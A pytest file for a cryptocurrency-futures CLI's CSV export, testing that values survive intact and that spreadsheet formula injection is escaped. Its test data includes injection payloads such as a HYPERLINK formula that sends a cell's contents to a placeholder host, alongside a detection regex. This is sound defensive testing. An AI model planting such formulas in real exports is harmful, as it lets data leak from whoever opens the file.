"""CSV: what a spreadsheet reads back is what the exchange sent."""

import csv
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from binfut_cli.codec import UNSAFE, Row
from binfut_cli.endpoints import Market
from binfut_cli.render.choice import Choice
from binfut_cli.render.csv import LONG, sheet
from binfut_cli.resources.balances import BALANCES
from binfut_cli.resources.result.resource import fields
from binfut_cli.resources.result.result import Result
from binfut_cli.resources.status import KINDS


def balances(*rows: Row, market: Market = Market.USDM) -> Result:
    return Result("balances", market, 0, {"balances": list(rows)}, (BALANCES,))


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_an_answer_without_a_row_is_a_header() -> None:
    header = ["market", *fields(BALANCES)]
    assert read(sheet([balances()], (BALANCES,), Choice())) == [header]
    assert read(sheet([], (BALANCES,), Choice())) == [header]
    assert read(sheet([], KINDS[:2], Choice())) == [list(LONG)]


def test_digits_are_untouched_and_what_is_not_there_is_empty() -> None:
    row = {"asset": "USDT", "balance": "0.00100000", "updateTime": 17, "marginAvailable": True}
    choice = Choice(fields=("balance", "asset", "updateTime", "marginAvailable", "crossUnPnl"))
    assert read(sheet([balances(row)], (BALANCES,), choice))[1:] == [
        ["usdm", "0.00100000", "USDT", "17", "true", ""]
    ]


def test_zero_rows_come_only_when_asked_for() -> None:
    rows = ({"asset": "A", "balance": "0.00"}, {"asset": "B", "balance": "-1"})
    for whole, expected in ((False, ["B"]), (True, ["A", "B"])):
        choice = Choice(fields=("asset",), whole=whole)
        found = read(sheet([balances(*rows)], (BALANCES,), choice))
        assert [line[1] for line in found[1:]] == expected


# Where the comma is the decimal sign, a semicolon ends a cell.
INERT = {
    '=HYPERLINK("http://x/"&A1)': '\\u{3d}HYPERLINK("http://x/"&A1)',
    "+1+1": "\\u{2b}1+1",
    "-2+3": "\\u{2d}2+3",
    "-x-order-7": "\\u{2d}x-order-7",
    "@SUM(A1:A9)": "\\u{40}SUM(A1:A9)",
    "  =1": "  \\u{3d}1",
    "\t=1": "\\u{9}=1",
    "\r=1": "\\u{d}=1",
    "\uff1d1": "\\u{ff1d}1",
    "a;=1;-1": "a;\\u{3d}1;\\u{2d}1",
    "--1": "\\u{2d}-1",
    "-": "\\u{2d}",
}
NUMBERS = ["-0.5", "0", "-0.00100000", "1E-7", "-12480.50318243", "Infinity"]
PLAIN = ["BTCUSDT", "a=b", "x-order-7", "1000SHIB", "币安人生", "a; b"]


@pytest.mark.parametrize("text", [*INERT, *NUMBERS, *PLAIN])
def test_no_cell_is_a_formula_and_numbers_stay_numbers(text: str) -> None:
    row = {"asset": text, "balance": "1", "accountAlias": {"a": f"x;{text}"}}
    choice = Choice(fields=("asset", "accountAlias"))
    (_, line) = read(sheet([balances(row)], (BALANCES,), choice))
    assert line[1] == INERT.get(text, text)
    assert not re.search(r"(^|[;\t\r]) *[=+@-](?![0-9.]+$)", line[2])


def test_no_key_of_a_row_in_long_form_is_a_formula() -> None:
    document: Row = {"assets": [{"asset": "=1", "walletBalance": "-1.0"}]}
    answers = [Result("accountStatus", Market.USDM, 0, document, KINDS)]
    assert ["usdm", "assets", "\\u{3d}1", "walletBalance", "-1.0"] in read(
        sheet(answers, KINDS, Choice())
    )


@given(st.text(max_size=20))
def test_any_text_comes_back_with_what_steers_a_terminal_escaped(text: str) -> None:
    row = {"asset": text, "balance": "1"}
    data = sheet([balances(row)], (BALANCES,), Choice(fields=("asset", "balance")))
    _, line = read(data)
    told = re.sub(r"\\u\{([0-9a-f]+)\}", lambda found: chr(int(found[1], 16)), line[1])
    assert [line[0], told, line[2]] == ["usdm", text, "1"]  # no digit or letter is lost
    assert not re.search(UNSAFE, line[1])
    assert data.count(b"\n") == 2  # no text makes a line of its own


def test_several_kinds_come_in_long_form_and_both_markets_in_one_sheet() -> None:
    document: Row = {
        "feeTier": 0,
        "assets": [{"asset": "BTC", "walletBalance": "1.0", "derived": {"marginRatio": "0.5"}}],
        "positions": [{"symbol": "X", "positionSide": "LONG", "positionAmt": "2"}],
    }
    answers = [Result("accountStatus", market, 0, document, KINDS) for market in Market]
    usdm = [
        ["usdm", "totals", "", "feeTier", "0"],
        ["usdm", "assets", "BTC", "asset", "BTC"],
        ["usdm", "assets", "BTC", "walletBalance", "1.0"],
        ["usdm", "assets", "BTC", "marginRatio", "0.5"],
        ["usdm", "positions", "X LONG", "symbol", "X"],
        ["usdm", "positions", "X LONG", "positionAmt", "2"],
        ["usdm", "positions", "X LONG", "positionSide", "LONG"],
    ]
    coinm = [["coinm", *line[1:]] for line in usdm]
    assert read(sheet(answers, KINDS, Choice())) == [list(LONG), *usdm, *coinm]


def test_what_is_no_text_is_json() -> None:
    row: Row = {"asset": "A", "balance": "1", "accountAlias": {"a": ["1", None]}}
    choice = Choice(fields=("accountAlias",))
    (_, line) = read(sheet([balances(row)], (BALANCES,), choice))
    assert json.loads(line[1]) == {"a": ["1", None]}
